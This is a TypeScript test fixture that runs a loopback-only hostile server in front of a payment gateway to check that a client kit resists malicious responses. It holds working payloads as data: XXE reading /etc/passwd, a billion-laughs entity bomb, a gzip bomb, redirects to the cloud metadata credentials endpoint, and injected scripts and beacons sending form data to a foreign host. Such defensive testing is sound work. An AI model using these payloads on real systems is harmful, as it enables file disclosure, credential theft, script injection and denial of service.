/**
 * A hostile target for the kit's own tests and for `npm run bench:hostile`: a loopback server in front of the
 * reference gateway that answers the kit's requests in one hostile mode (see README.md in this folder). "Foreign
 * hosts" are two more loopback addresses (127.0.0.2, 127.0.0.3) with listeners of their own that count every
 * connection: a kit that contacts only its target leaves them at zero. Nothing here ever addresses a non-loopback
 * host; link-local and `file:` URLs are only written into answers, never requested.
 */
import http from 'node:http';
import net from 'node:net';
import zlib from 'node:zlib';
import type { AddressInfo } from 'node:net';
import { startGateway, type RunningGateway } from '../../gateway/index.js';
import { isSinkRequest } from '../../engine/sink.js';

/** The hostile modes, each one way a target can misbehave. */
export const MODES = [
  'clean',
  'huge-body',
  'slow-drip',
  'no-answer',
  'redirects',
  'links-foreign',
  'links-file',
  'xxe',
  'entity-expansion',
  'deep-xml',
  'deep-json',
  'million-keys',
  'checkout-active-content',
  'bad-bytes',
  'huge-headers',
  'many-headers',
  'compression-bomb',
  'echo-values',
  'echo-keys-headers',
  'echo-sent-card',
  'reset-mid-body',
  'short-body',
  'notification-flood',
] as const;

/** A hostile mode. */
export type Mode = (typeof MODES)[number];

/** The security code the kit is configured to send to a hostile target: a run of digits no report holds otherwise. */
export const SECURITY_CODE = '0417';

/** A listener on a foreign loopback address counting the connections made to it. */
export interface ForeignHost {
  url: string;
  connections(): number;
}

/** A started hostile target. */
export interface HostileTarget {
  mode: Mode;
  url: string;
  merchantId: string;
  accountId: string;
  secret: string;
  /** The gateway's test cards (what the kit sends and the target may echo). */
  cards: string[];
  foreign: ForeignHost[];
  /** Connections every foreign host saw. */
  foreignConnections(): number;
  /** Notifications the flood mode sent, by what the kit's receiver answered. */
  flood(): Record<string, number>;
  /** The card field values the kit sent that the echo-sent-card mode echoed (number, expiry month and year, code). */
  echoed(): { number: string[]; expiryMonth: string[]; expiryYear: string[]; securityCode: string[] };
  close(): Promise<void>;
}

type Operation = 'authoriseDirect' | 'authoriseApm' | 'checkout' | 'json';

function listen(server: net.Server, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve((server.address() as AddressInfo).port));
  });
}

async function foreignHost(host: string): Promise<ForeignHost & { close(): Promise<void> }> {
  let count = 0;
  const server = net.createServer((socket) => {
    count++;
    socket.end('HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 7\r\nconnection: close\r\n\r\nforeign');
  });
  const port = await listen(server, host);
  return {
    url: `http://${host}:${port}`,
    connections: () => count,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

function readAll(req: http.IncomingMessage, cap = 4 * 1024 * 1024): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    let size = 0;
    req.on('data', (c: Buffer) => {
      size += c.length;
      if (size <= cap) chunks.push(c);
    });
    req.on('end', () => resolve(Buffer.concat(chunks)));
    req.on('error', reject);
  });
}

function parseBody(text: string): Record<string, unknown> {
  try {
    const v = JSON.parse(text);
    if (v && typeof v === 'object') return v;
  } catch {
    // form fields
  }
  return Object.fromEntries(new URLSearchParams(text));
}

function operationOf(path: string, body: Record<string, unknown>): Operation {
  if (path.endsWith('/authorise')) return body.payment_method !== undefined ? 'authoriseApm' : 'authoriseDirect';
  if (path.endsWith('/checkout')) return 'checkout';
  return 'json';
}

const CONTENT_TYPE: Record<Operation, string> = {
  authoriseDirect: 'application/xml',
  authoriseApm: 'application/xml',
  checkout: 'text/html',
  json: 'application/json',
};

/** A raw HTTP/1.1 answer written on the socket (for what Node's own writer refuses). */
function raw(res: http.ServerResponse, head: string, body: Buffer | string, then: 'end' | 'destroy' = 'end'): void {
  const socket = res.socket!;
  socket.write(`${head}\r\n\r\n`, 'latin1');
  socket.write(body);
  if (then === 'destroy') setTimeout(() => socket.destroy(), 20);
  else socket.end();
}

/** Stream `total` bytes of `fill` with back-pressure, stopping when the client goes away. */
function stream(res: http.ServerResponse, total: number, contentType: string): void {
  const chunk = Buffer.alloc(64 * 1024, 'A');
  res.writeHead(200, { 'content-type': contentType, 'content-length': String(total) });
  let sent = 0;
  let closed = false;
  res.on('close', () => (closed = true));
  const pump = (): void => {
    while (!closed && sent < total) {
      const n = Math.min(chunk.length, total - sent);
      sent += n;
      if (!res.write(n === chunk.length ? chunk : chunk.subarray(0, n))) {
        res.once('drain', pump);
        return;
      }
    }
    if (!closed) res.end();
  };
  pump();
}

let bomb: Buffer | undefined;
/** About 1 MiB of gzip members that inflate to 1 GiB of zeros (made once). */
function gzipBomb(): Buffer {
  if (!bomb) {
    const member = zlib.gzipSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
    bomb = Buffer.concat(Array.from({ length: 64 }, () => member));
  }
  return bomb;
}

function deepJson(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}

function deepXml(depth: number): string {
  return `<?xml version="1.0"?><respon>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}</respon>`;
}

const millionKeysCache = new Map<Operation, string>();
function millionKeys(op: Operation): string {
  let body = millionKeysCache.get(op);
  if (!body) millionKeysCache.set(op, (body = makeMillionKeys(op)));
  return body;
}

function makeMillionKeys(op: Operation): string {
  const n = 1_000_000;
  if (op === 'json')
    return `{"return_status":"1","orders_list":[${Array.from({ length: n }, () => '{"a":0}').join(',')}]}`;
  if (op === 'checkout') return `<html><body><form method="post">${'<i></i>'.repeat(n)}</form></body></html>`;
  return `<?xml version="1.0"?><respon>${'<k/>'.repeat(n)}</respon>`;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE respon [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<respon><merchant_id>&lol9;</merchant_id></respon>`;

function xxe(foreign: string): string {
  return `<?xml version="1.0"?>
<!DOCTYPE respon SYSTEM "${foreign}/evil.dtd" [
 <!ENTITY file SYSTEM "file:///etc/passwd">
 <!ENTITY remote SYSTEM "${foreign}/entity">
]>
<respon><merchant_id>&file;</merchant_id><account_id>&remote;</account_id></respon>`;
}

/** Active content for the checkout page: every kind of resource and navigation, all pointing at a foreign host. */
function activeContent(foreign: string): string {
  return [
    `<meta http-equiv="refresh" content="0;url=${foreign}/refresh">`,
    `<script src="${foreign}/script.js"></script>`,
    `<script>fetch("${foreign}/fetch"); new Image().src = "${foreign}/beacon"; document.forms[0].action = "${foreign}/stolen";</script>`,
    `<iframe src="${foreign}/frame"></iframe>`,
    `<img src="${foreign}/image.png">`,
    `<link rel="stylesheet" href="${foreign}/style.css">`,
    `<object data="${foreign}/object"></object>`,
  ].join('\n');
}

/** Put `text` into every string value of a JSON document, and a field. */
function echoJson(value: unknown, extra: Record<string, unknown>, keys: Record<string, unknown>): unknown {
  if (!value || typeof value !== 'object' || Array.isArray(value)) return value;
  return { ...(value as object), ...extra, ...keys };
}

/** Start a hostile target in `mode` (a reference gateway behind it, foreign hosts beside it). */
export async function startHostile(mode: Mode, options: { floodCount?: number } = {}): Promise<HostileTarget> {
  const foreign = await Promise.all([foreignHost('127.0.0.2'), foreignHost('127.0.0.3')]);
  const [f2, f3] = foreign as [ForeignHost, ForeignHost];
  const floodCounts: Record<string, number> = {};
  let requests = 0;
  let flooding = false;
  const sockets = new Set<net.Socket>();
  let gateway: RunningGateway | undefined;
  const echoedValues = {
    number: [] as string[],
    expiryMonth: [] as string[],
    expiryYear: [] as string[],
    securityCode: [] as string[],
  };

  const flood = async (notifyUrl: string, key: Record<string, unknown>): Promise<void> => {
    const agent = new http.Agent({ keepAlive: true, maxSockets: 8 });
    const big = Buffer.alloc(1024 * 1024, 'x');
    const count = options.floodCount ?? 2000;
    const send = (body: Buffer | string) =>
      new Promise<void>((resolve) => {
        const req = http.request(
          notifyUrl,
          { method: 'POST', agent, headers: { 'content-type': 'application/json' } },
          (res) => {
            floodCounts[res.statusCode ?? 0] = (floodCounts[res.statusCode ?? 0] ?? 0) + 1;
            res.resume();
            res.on('end', resolve);
          },
        );
        req.on('error', () => {
          floodCounts.error = (floodCounts.error ?? 0) + 1;
          resolve();
        });
        req.end(body);
      });
    let next = 0;
    const lane = async () => {
      while (next < count) {
        const i = next++;
        await send(i % 4 === 0 ? big : JSON.stringify({ ...key, attempt: i }));
      }
    };
    await Promise.all(Array.from({ length: 8 }, lane));
    agent.destroy();
  };

  const server = http.createServer(async (req, res) => {
    requests++;
    const bodyBuf = await readAll(req).catch(() => Buffer.alloc(0));
    const body = parseBody(bodyBuf.toString('utf8'));
    const op = operationOf(req.url ?? '/', body);
    const type = CONTENT_TYPE[op];
    const foreignUrl = requests % 2 ? f2.url : f3.url;
    // The operations are POSTs: anything else (the kit's reachability probe, a page GET) is answered as the gateway would.
    switch (req.method === 'POST' ? mode : 'clean') {
      case 'huge-body':
        return stream(res, 2 * 1024 ** 3, type);
      case 'slow-drip': {
        res.writeHead(200, { 'content-type': type });
        const timer = setInterval(() => res.write('<'), 2000);
        res.on('close', () => clearInterval(timer));
        return;
      }
      case 'no-answer':
        return; // never answered; the socket stays open until the kit gives up
      case 'redirects': {
        const targets = [
          'file:///etc/passwd',
          'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
          `${foreignUrl}/redirected`,
        ];
        res.writeHead([301, 302, 307, 308][requests % 4]!, { location: targets[requests % 3]! }).end();
        return;
      }
      case 'xxe':
      case 'entity-expansion':
        if (op === 'authoriseDirect' || op === 'authoriseApm') {
          res
            .writeHead(200, { 'content-type': 'application/xml' })
            .end(mode === 'xxe' ? xxe(foreignUrl) : BILLION_LAUGHS);
          return;
        }
        break;
      case 'deep-xml':
        if (op === 'authoriseDirect' || op === 'authoriseApm') {
          res.writeHead(200, { 'content-type': 'application/xml' }).end(deepXml(100_000));
          return;
        }
        break;
      case 'deep-json':
        if (op === 'json') {
          res.writeHead(200, { 'content-type': 'application/json' }).end(deepJson(100_000));
          return;
        }
        break;
      case 'million-keys':
        res.writeHead(200, { 'content-type': type }).end(millionKeys(op));
        return;
      case 'bad-bytes':
        res.writeHead(200, { 'content-type': `${type}; charset=utf-8` });
        res.end(
          Buffer.concat([
            Buffer.from('{"merchant_id":"'),
            Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x00]),
            Buffer.from('\u0000"}'),
          ]),
        );
        return;
      case 'huge-headers':
        return raw(
          res,
          `HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\nx-huge: ${'h'.repeat(1024 * 1024)}\r\ncontent-length: 2`,
          '{}',
        );
      case 'many-headers': {
        const many = Array.from({ length: 1500 }, (_, i) => `x-${i}: \xff\xfe${i}`).join('\r\n');
        return raw(
          res,
          `HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\n${many}\r\ncontent-length: 2\r\nconnection: close`,
          '{}',
        );
      }
      case 'compression-bomb': {
        const gz = gzipBomb();
        res
          .writeHead(200, { 'content-type': type, 'content-encoding': 'gzip', 'content-length': String(gz.length) })
          .end(gz);
        return;
      }
      case 'reset-mid-body':
        return raw(
          res,
          `HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\ncontent-length: 100000`,
          `{"merchant_id":"${'x'.repeat(50_000)}`,
          'destroy',
        );
      case 'short-body':
        return raw(
          res,
          `HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\ncontent-length: 100000\r\nconnection: close`,
          '{"merchant_id":"m"}',
        );
      default:
        break;
    }
    if (
      mode === 'notification-flood' &&
      !flooding &&
      typeof body.notify_url === 'string' &&
      /^http:\/\/127\./.test(body.notify_url) &&
      !isSinkRequest(new URL(body.notify_url).pathname + new URL(body.notify_url).search)
    ) {
      flooding = true;
      const key = body.order_no !== undefined ? { order_no: body.order_no } : { request_id: body.request_id };
      void flood(body.notify_url, key);
    }
    await forward(req, res, bodyBuf, op, foreignUrl);
  });

  /** Pass the request to the gateway (from the kit's own source address) and answer with its reply, altered by the mode. */
  const forward = async (
    req: http.IncomingMessage,
    res: http.ServerResponse,
    bodyBuf: Buffer,
    op: Operation,
    foreignUrl: string,
  ): Promise<void> => {
    const upstream = await new Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer } | undefined>(
      (resolve) => {
        const local = req.socket.remoteAddress?.replace(/^::ffff:/, '');
        const out = http.request(
          `${gateway!.url}${req.url}`,
          {
            method: req.method,
            headers: { ...req.headers, host: new URL(gateway!.url).host },
            ...(local && /^127\./.test(local) ? { localAddress: local } : {}),
          },
          (r) => {
            const chunks: Buffer[] = [];
            r.on('data', (c: Buffer) => chunks.push(c));
            r.on('end', () =>
              resolve({ status: r.statusCode ?? 502, headers: r.headers, body: Buffer.concat(chunks) }),
            );
          },
        );
        out.on('error', () => resolve(undefined));
        out.end(bodyBuf);
      },
    );
    if (!upstream) {
      res.writeHead(502).end();
      return;
    }
    let text = upstream.body.toString('utf8');
    const headers: Record<string, string> = {
      'content-type': String(upstream.headers['content-type'] ?? CONTENT_TYPE[op]),
    };
    const card = target.cards[0]!;
    const dotted = card.replace(/(\d{4})(?=\d)/g, '$1.');
    if (mode === 'links-foreign' || mode === 'links-file') {
      const to = mode === 'links-file' ? 'file:///etc/passwd' : `${foreignUrl}/issuer`;
      text = text.replace(/<issuer_url>[^<]*<\/issuer_url>/, `<issuer_url>${to.replace(/&/g, '&amp;')}</issuer_url>`);
      text = text.replace(
        /(<form[^>]*\saction=")[^"]*(")/i,
        `$1${mode === 'links-file' ? 'file:///etc/passwd' : `${foreignUrl}/v1/checkout`}$2`,
      );
    } else if (mode === 'checkout-active-content' && op === 'checkout') {
      const injected = `"><script src="${foreignUrl}/injected.js"></script><img src="${foreignUrl}/injected.png" x="`;
      text = text
        .replace(/<head>/i, `<head>${activeContent(foreignUrl)}`)
        .replace(/(<body[^>]*>)/i, `$1${activeContent(foreignUrl)}`);
      text = text
        .replace(/(name="note" value=")[^"]*(")/, `$1${injected.replace(/"/g, '&quot;')}$2`)
        .replace(/(<\/form>)/i, `<input type="hidden" name="x_injected" value="${injected}">$1`);
    } else if (mode === 'echo-sent-card') {
      // Every answer carries a status header of its own (unrelated text that must stay); a direct payment's answer
      // echoes the card fields the kit sent, valid or not, in headers and XML elements.
      headers['x-status'] = '12';
      const c = gateway!.profile.fields.card;
      const sent = parseBody(bodyBuf.toString('utf8'));
      const values = {
        number: sent[c.number],
        expiryMonth: sent[c.expiryMonth],
        expiryYear: sent[c.expiryYear],
        securityCode: sent[c.securityCode],
      };
      if (op === 'authoriseDirect' && typeof values.number === 'string') {
        let elements = '';
        for (const [name, value] of Object.entries(values)) {
          if (typeof value !== 'string') continue;
          const seen = echoedValues[name as keyof typeof echoedValues];
          if (!seen.includes(value)) seen.push(value);
          headers[`x-echo-${name.toLowerCase()}`] = value;
          elements += `<echo_${name}>${value}</echo_${name}>`;
        }
        text = text.replace(/(<\/respon>)/, `${elements}$1`);
      }
    } else if (mode === 'echo-values' || mode === 'echo-keys-headers') {
      const inValues = `secret ${target.secret} card ${card} spaced ${card.replace(/(\d{4})(?=\d)/g, '$1 ')} dashed ${card.replace(/(\d{4})(?=\d)/g, '$1-')} security_code=${SECURITY_CODE}`;
      if (mode === 'echo-keys-headers') {
        headers[`x-echo-${target.secret}`] = '1';
        headers[`x-card-${card}`] = '1';
      } else headers['x-echo'] = inValues;
      if (op === 'json') {
        const keys =
          mode === 'echo-keys-headers'
            ? { [target.secret]: 'secret as a key', [card]: 'card as a key', [`dotted_${dotted}`]: dotted }
            : {};
        const extra = mode === 'echo-values' ? { echoed: inValues, security_code: SECURITY_CODE } : {};
        try {
          text = JSON.stringify(echoJson(JSON.parse(text), extra, keys));
        } catch {
          // not JSON: left as is
        }
      } else if (op === 'checkout') {
        const inputs =
          mode === 'echo-values'
            ? `<input type="hidden" name="echoed" value="${inValues}"><input type="hidden" name="security_code" value="${SECURITY_CODE}">`
            : `<input type="hidden" name="${target.secret}" value="x"><input type="hidden" name="k${card}" value="${dotted}">`;
        text = text.replace(/(<\/form>)/i, `${inputs}$1`);
      } else {
        const elements =
          mode === 'echo-values'
            ? `<note>${inValues}</note><security_code>${SECURITY_CODE}</security_code>`
            : `<c${card}>${dotted}</c${card}><note>${dotted}</note>`;
        text = text.replace(/(<\/respon>)/, `${elements}$1`);
      }
    }
    res.writeHead(upstream.status, headers).end(text);
  };

  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  const port = await listen(server, '127.0.0.1');
  const url = `http://127.0.0.1:${port}`;
  gateway = await startGateway({ port: 0, host: '127.0.0.1', baseUrl: url });
  const merchant = gateway.config.merchants[0]!;
  const account = merchant.accounts[0]!;
  const target: HostileTarget = {
    mode,
    url,
    merchantId: merchant.merchantId,
    accountId: account.accountId,
    secret: account.secret ?? merchant.secret!,
    cards: [...gateway.profile.payments.testCards.approve, ...gateway.profile.payments.testCards.decline],
    foreign: [f2, f3],
    foreignConnections: () => f2.connections() + f3.connections(),
    flood: () => ({ ...floodCounts }),
    echoed: () => echoedValues,
    async close() {
      for (const s of sockets) s.destroy();
      await new Promise<void>((r) => server.close(() => r()));
      await gateway?.close();
      await Promise.all(foreign.map((f) => f.close()));
    },
  };
  return target;
}
